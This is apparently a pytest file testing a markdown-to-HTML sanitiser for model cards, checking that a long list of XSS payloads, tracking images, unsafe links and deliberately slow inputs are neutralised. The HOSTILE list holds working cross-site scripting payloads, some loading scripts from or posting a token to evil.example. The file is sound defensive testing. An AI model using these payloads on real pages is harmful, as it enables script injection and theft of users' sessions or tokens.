import re

import pytest

from explorer.hub.cards import card_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=x>',
    '<img alt="<svg onload=alert(1)>">',
    '<a href="http://h.example/<img alt=">x</a><a title=">" href="http://y.example/">',
    '<img alt="<a href=javascript:alert(1)>here</a>">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=token><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=//evil.example>",
    "<video src=https://evil.example/v.mp4 autoplay></video><audio src=x></audio>",
    "<p style='position:fixed;inset:0' onclick=alert(1) id=root class=stApp>over everything</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' onmouseover=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,hello)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<div><p><b><i>never closed <script>alert(1)",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]
ALLOWED = re.compile(
    r"</?(a|blockquote|br|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|kbd|li|ol|p|pre|s|span|strong|sub|summary|"
    r"sup|table|tbody|td|th|thead|tr|ul|b|i|u)"
    r'( href="https?://[^"]*"| target="_blank"| rel="noopener noreferrer")*>'
)


@pytest.mark.parametrize("markdown", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "# Title\n\n{}\n\nThe end.", "- {}", "| a |\n| --- |\n| {} |"])
def test_nothing_hostile_survives(markdown, around):
    drawn = card_html(around.replace("{}", markdown))
    # Every "<" left begins one of the few tags allowed, with no attribute but those of a safe link.
    assert "<" not in ALLOWED.sub("", drawn), drawn
    if around.startswith("#"):
        assert "Title" in drawn


def test_the_usual_parts_of_a_card_are_drawn():
    drawn = card_html("# A *model*\n\n| k | v |\n| - | - |\n| 1 | ~~2~~ |\n\n```python\nx < 1\n```\n")
    assert "<h3>A <em>model</em></h3>" in drawn
    assert "<td>1</td>" in drawn
    assert "<s>2</s>" in drawn
    assert "x &lt; 1" in drawn


def test_links_open_elsewhere_and_tell_nothing():
    link = '<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">paper</a>'
    assert card_html("[paper](https://example.org/a?b=1&c=2)") == f"<p>{link}</p>\n"
    assert "href" not in card_html(
        "[more](./docs/more.md) [top](#top) [root](/settings) [net](//evil.example)"
    )


def test_an_image_is_replaced_by_its_description():
    assert (
        card_html("see ![the *curve* <b>](https://evil.example/a.png)!")
        == "<p>see the curve &lt;b&gt;!</p>\n"
    )
    assert card_html('<p>see <img src="x" alt="a &quot;curve&quot;" width=3></p>') == '<p>see a "curve"</p>'
    assert card_html("![](https://evil.example/a.png)") == "<p></p>\n"


@pytest.mark.parametrize("line", ["\n", "\r\n"])
def test_front_matter_is_left_out(line):
    drawn = card_html(line.join(["---", "license: mit", "tags: [a]", "---", "# Title", "", "---", "", "end"]))
    assert "license" not in drawn
    assert "<h3>Title</h3>" in drawn
    assert "end" in drawn


def test_a_card_whose_front_matter_is_long_is_drawn_and_a_long_card_is_cut():
    scores = "- value: 1.0\n" * 30_000
    assert card_html(f"---\n{scores}---\n# Title") == "<h3>Title</h3>\n"
    assert len(card_html("word " * 100_000)) < 101_000


@pytest.mark.slow
@pytest.mark.parametrize(
    "markdown",
    ["[" * 200_000, "> " * 100_000, "<div>" * 40_000, "*a " * 60_000, "`" * 200_000, "![" * 100_000,
     "---\n" * 50_000, "<img alt=" * 20_000, "a" * 5_000_000, "- " * 100_000, "|a" * 100_000,
     "[a](" * 50_000],
    ids=lambda text: text[:9],
)  # fmt: skip
@pytest.mark.timeout(120)  # were one of them quadratic, it would take hours
def test_a_card_made_to_be_slow_is_not(markdown):
    assert len(card_html(markdown)) < 4_000_000
